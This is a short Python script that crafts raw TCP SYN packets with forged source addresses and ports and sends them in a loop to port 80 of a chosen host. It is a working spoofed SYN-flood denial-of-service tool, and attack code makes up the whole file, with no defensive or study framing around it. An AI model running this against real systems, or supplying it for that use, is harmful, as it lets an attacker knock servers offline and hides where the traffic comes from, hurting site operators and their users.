"""Sends SYNs to port 80 of a host from addresses and ports that nobody has, as fast as a raw socket takes them.

usage: syns.py ADDRESS COUNT; prints {"sent": COUNT}
"""

import json
import socket
import struct
import sys


def total(data):
    words = struct.unpack(f">{len(data) // 2}H", data)
    value = sum(words)
    value = (value & 0xFFFF) + (value >> 16)
    return ~((value & 0xFFFF) + (value >> 16)) & 0xFFFF


def main():
    address, count = socket.inet_aton(sys.argv[1]), int(sys.argv[2])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number in range(count):
        source = bytes([10, 0, 0, 100 + number % 100])
        header = struct.pack(">HHIIBBHHH", 1024 + number, 80, number * 7919, 0, 0x50, 2, 64240, 0, 0)
        pseudo = source + address + struct.pack(">BBH", 0, 6, len(header))
        header = header[:16] + struct.pack(">H", total(pseudo + header)) + header[18:]
        ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, source, address)
        raw.sendto(ip + header, (sys.argv[1], 0))
    print(json.dumps({"sent": count}))


main()
